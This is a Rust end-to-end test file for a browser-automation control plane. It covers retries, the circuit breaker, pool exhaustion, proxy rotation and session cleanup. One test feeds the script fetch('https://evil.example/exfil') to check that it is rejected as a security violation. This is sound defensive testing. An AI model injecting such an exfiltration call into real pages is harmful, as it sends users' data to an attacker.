//! End-to-end scenarios against `ControlPlane` with a fake browser engine:
//! navigate OK, pool exhaustion, breaker opens, retry then succeed, security
//! reject, proxy rotation on error.

use async_trait::async_trait;
use std::collections::HashSet;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use std::time::Duration;
use wayfarer_config::WayfarerConfig;
use wayfarer_core::ControlPlane;
use wayfarer_types::action::{Action, WaitUntil};
use wayfarer_types::error::{CoreError, CoreResult};
use wayfarer_types::model::{ContextConfig, ProxyInstance};
use wayfarer_types::ports::engine::{
    BrowserEngine, BrowserEngineFactory, BrowserPage, CookieSpec, NavigationOutcome, PdfOpts,
    ScreenshotOpts, ScrollSpec, WaitUntil as EngineWaitUntil,
};

/// A page whose `goto` fails its first `fail_times` calls, then succeeds.
struct FlakyPage {
    fail_times: AtomicU32,
}

#[async_trait]
impl BrowserPage for FlakyPage {
    async fn goto(&self, url: &str, _wait_until: EngineWaitUntil, _timeout: Duration) -> CoreResult<NavigationOutcome> {
        let remaining = self.fail_times.load(Ordering::SeqCst);
        if remaining > 0 {
            self.fail_times.fetch_sub(1, Ordering::SeqCst);
            return Err(CoreError::timeout("navigation timeout waiting for page load"));
        }
        Ok(NavigationOutcome { final_url: url.to_string(), status_code: 200, title: String::new() })
    }
    async fn go_back(&self, _timeout: Duration) -> CoreResult<bool> { Ok(false) }
    async fn go_forward(&self, _timeout: Duration) -> CoreResult<bool> { Ok(false) }
    async fn reload(&self, _timeout: Duration) -> CoreResult<NavigationOutcome> {
        Ok(NavigationOutcome { final_url: String::new(), status_code: 200, title: String::new() })
    }
    async fn evaluate(&self, _code: &str, _args: &[serde_json::Value], _timeout: Duration) -> CoreResult<serde_json::Value> {
        Ok(serde_json::Value::Null)
    }
    async fn evaluate_handle(&self, _code: &str, _args: &[serde_json::Value], _timeout: Duration) -> CoreResult<String> {
        Ok("handle-1".to_string())
    }
    async fn inject_script(&self, _code: &str, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn inject_css(&self, _code: &str, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn click(&self, _selector: &str, _wait_for_selector: bool, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn type_text(&self, _selector: &str, _text: &str, _clear_first: bool, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn scroll(&self, _spec: ScrollSpec, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn wait_for_selector(&self, _selector: &str, _visible: Option<bool>, _hidden: Option<bool>, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn wait_for_navigation(&self, _wait_until: EngineWaitUntil, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn wait_for_function(&self, _body: &str, _timeout: Duration) -> CoreResult<()> { Ok(()) }
    async fn screenshot(&self, _opts: ScreenshotOpts) -> CoreResult<Vec<u8>> { Ok(vec![]) }
    async fn pdf(&self, _opts: PdfOpts) -> CoreResult<Vec<u8>> { Ok(vec![]) }
    async fn set_viewport(&self, width: u32, height: u32, _scale: f64) -> CoreResult<(u32, u32)> { Ok((width, height)) }
    async fn set_cookie(&self, _cookie: CookieSpec) -> CoreResult<()> { Ok(()) }
    async fn get_cookies(&self) -> CoreResult<Vec<CookieSpec>> { Ok(vec![]) }
    async fn delete_cookie(&self, _name: &str) -> CoreResult<()> { Ok(()) }
    async fn set_download_behavior(&self, _dir: &str) -> CoreResult<()> { Ok(()) }
    async fn get_content(&self) -> CoreResult<String> { Ok(String::new()) }
    async fn get_title(&self) -> CoreResult<String> { Ok(String::new()) }
    async fn get_url(&self) -> CoreResult<String> { Ok(String::new()) }
    async fn history_len(&self) -> usize { 0 }
    async fn upload_files(&self, _selector: &str, _files: &[String]) -> CoreResult<()> { Ok(()) }
    async fn close(&self) -> CoreResult<()> { Ok(()) }
}

/// An engine that hands out `FlakyPage`s all sharing one `fail_times` budget,
/// so every action against the context sees the same flakiness.
struct FlakyEngine {
    fail_times: Arc<AtomicU32>,
}

#[async_trait]
impl BrowserEngine for FlakyEngine {
    async fn new_page(&self) -> CoreResult<Arc<dyn BrowserPage>> {
        Ok(Arc::new(FlakyPage { fail_times: AtomicU32::new(self.fail_times.load(Ordering::SeqCst)) }))
    }
    async fn page_count(&self) -> usize { 0 }
    async fn is_alive(&self) -> bool { true }
    async fn close(&self) -> CoreResult<()> { Ok(()) }
}

struct FlakyFactory {
    fail_times: u32,
}

#[async_trait]
impl BrowserEngineFactory for FlakyFactory {
    async fn launch(&self) -> CoreResult<Arc<dyn BrowserEngine>> {
        Ok(Arc::new(FlakyEngine { fail_times: Arc::new(AtomicU32::new(self.fail_times)) }))
    }
}

fn small_config() -> WayfarerConfig {
    let mut config = WayfarerConfig::default();
    config.pool.min_size = 0;
    config.pool.max_size = 1;
    config.pool.acquire_timeout = Duration::from_millis(200);
    config.circuit_breaker.failure_threshold = 2;
    config.circuit_breaker.minimum_throughput = 2;
    config.circuit_breaker.open_cooldown = Duration::from_secs(3600);
    config.retry.max_attempts = 3;
    config.retry.base_delay = Duration::from_millis(1);
    config.retry.max_delay = Duration::from_millis(5);
    config
}

async fn open_context_and_page(plane: &ControlPlane) -> (String, String, String) {
    let session = plane.create_session("user-1", HashSet::new()).await.unwrap();
    let context = plane.create_context(&session.id, ContextConfig::default()).await.unwrap();
    let page = plane.open_page(&context.id, "about:blank").await.unwrap();
    (session.id, context.id, page.id)
}

#[tokio::test]
async fn navigate_succeeds_against_a_healthy_browser() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 0 }), vec![])
        .await
        .unwrap();
    let (session_id, context_id, page_id) = open_context_and_page(&plane).await;

    let result = plane
        .execute(
            &session_id,
            &context_id,
            &page_id,
            Action::Navigate { url: "https://example.com".to_string(), wait_until: WaitUntil::Load, timeout_ms: 5000 },
        )
        .await
        .unwrap();

    assert!(result.success);
    assert_eq!(result.action_type, "navigate");
    assert_eq!(result.metadata.get("waitUntil").and_then(|v| v.as_str()), Some("load"));
}

#[tokio::test]
async fn pool_exhaustion_surfaces_as_an_error() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 0 }), vec![])
        .await
        .unwrap();

    // max_pool_size is 1; hold the only browser open via one context, then
    // try to acquire a second.
    let (_session_id, _context_id, _page_id) = open_context_and_page(&plane).await;
    let session2 = plane.create_session("user-2", HashSet::new()).await.unwrap();
    let context2 = plane.create_context(&session2.id, ContextConfig::default()).await.unwrap();

    let err = plane.open_page(&context2.id, "about:blank").await.unwrap_err();
    assert!(matches!(err.kind, wayfarer_types::error::ErrorKind::ResourceExhausted));
}

#[tokio::test]
async fn retries_a_flaky_navigation_until_it_succeeds() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 2 }), vec![])
        .await
        .unwrap();
    let (session_id, context_id, page_id) = open_context_and_page(&plane).await;

    let result = plane
        .execute(
            &session_id,
            &context_id,
            &page_id,
            Action::Navigate { url: "https://example.com".to_string(), wait_until: WaitUntil::Load, timeout_ms: 5000 },
        )
        .await
        .unwrap();

    // retry.max_attempts is 3, and the page fails exactly twice before succeeding.
    assert!(result.success);
    assert_eq!(result.metadata.get("retryAttempt").and_then(|v| v.as_u64()), Some(2));
}

#[tokio::test]
async fn circuit_opens_after_repeated_failures_and_short_circuits_further_calls() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 100 }), vec![])
        .await
        .unwrap();
    let (session_id, context_id, page_id) = open_context_and_page(&plane).await;

    let action = || Action::Navigate {
        url: "https://example.com".to_string(),
        wait_until: WaitUntil::Load,
        timeout_ms: 5000,
    };

    // failure_threshold is 2; each call here exhausts its own retry budget
    // and reports one failure to the breaker.
    let first = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert!(!first.success);
    let second = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert!(!second.success);

    let third = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert!(!third.success);
    assert_eq!(third.error.as_deref(), Some("CircuitOpen"));

    let health = plane.health().await;
    assert_eq!(health.open_breakers.len(), 1);
}

#[tokio::test]
async fn dangerous_script_is_rejected_before_it_reaches_the_page() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 0 }), vec![])
        .await
        .unwrap();
    let (session_id, context_id, page_id) = open_context_and_page(&plane).await;

    let result = plane
        .execute(
            &session_id,
            &context_id,
            &page_id,
            Action::Evaluate {
                code: "fetch('https://evil.example/exfil')".to_string(),
                args: vec![],
                timeout_ms: 1000,
                return_by_value: true,
            },
        )
        .await
        .unwrap();

    assert!(!result.success);
    assert_eq!(result.error.as_deref(), Some("SecurityViolation"));
}

#[tokio::test]
async fn proxy_rotates_after_repeated_errors_and_the_next_action_sees_the_new_id() {
    let proxies = vec![
        ProxyInstance::new(wayfarer_types::model::ProxyConfig {
            protocol: wayfarer_types::model::ProxyProtocol::Http,
            host: "proxy-a.internal".to_string(),
            port: 8080,
            username: None,
            password: None,
            bypass_list: vec![],
        }),
        ProxyInstance::new(wayfarer_types::model::ProxyConfig {
            protocol: wayfarer_types::model::ProxyProtocol::Http,
            host: "proxy-b.internal".to_string(),
            port: 8080,
            username: None,
            password: None,
            bypass_list: vec![],
        }),
    ];
    let mut config = small_config();
    config.circuit_breaker.failure_threshold = 100; // keep the breaker out of the way
    config.circuit_breaker.minimum_throughput = 100;
    config.retry.max_attempts = 1;
    let plane = ControlPlane::new(config, Arc::new(FlakyFactory { fail_times: 100 }), proxies)
        .await
        .unwrap();
    let (session_id, context_id, page_id) = open_context_and_page(&plane).await;

    let action = || Action::Navigate {
        url: "https://example.com".to_string(),
        wait_until: WaitUntil::Load,
        timeout_ms: 5000,
    };
    let proxy_id_of = |r: &wayfarer_types::action::ActionResult| {
        r.metadata.get("proxyId").and_then(|v| v.as_str()).unwrap().to_string()
    };

    // proxy.failover_threshold defaults to 3: the first two failures on the
    // assigned proxy don't trip its health check, so the same proxy id
    // carries through this call and the next.
    let first = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert!(!first.success);
    let initial_proxy = proxy_id_of(&first);

    let second = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert_eq!(proxy_id_of(&second), initial_proxy);

    // The third failure is the proxy's third consecutive error: its health
    // check now fails, which triggers rotation for the *next* call. This
    // call's own result still reports the proxy that was actually in use.
    let third = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert_eq!(proxy_id_of(&third), initial_proxy);

    let fourth = plane.execute(&session_id, &context_id, &page_id, action()).await.unwrap();
    assert_ne!(proxy_id_of(&fourth), initial_proxy);
}

#[tokio::test]
async fn closing_a_context_checks_its_browser_back_in() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 0 }), vec![])
        .await
        .unwrap();
    let (_session_id, context_id, _page_id) = open_context_and_page(&plane).await;

    plane.close_context(&context_id).await.unwrap();

    // max_pool_size is 1; with the lease released a second context can now
    // acquire the same browser.
    let session2 = plane.create_session("user-2", HashSet::new()).await.unwrap();
    let context2 = plane.create_context(&session2.id, ContextConfig::default()).await.unwrap();
    let page2 = plane.open_page(&context2.id, "about:blank").await;
    assert!(page2.is_ok());
}

#[tokio::test]
async fn deleting_a_session_cascades_to_its_contexts_and_handles() {
    let plane = ControlPlane::new(small_config(), Arc::new(FlakyFactory { fail_times: 0 }), vec![])
        .await
        .unwrap();
    let (session_id, context_id, _page_id) = open_context_and_page(&plane).await;

    plane.delete_session(&session_id).await.unwrap();

    assert!(plane.get_session(&session_id).await.is_err());
    assert!(plane.get_context(&context_id).await.is_err());
}
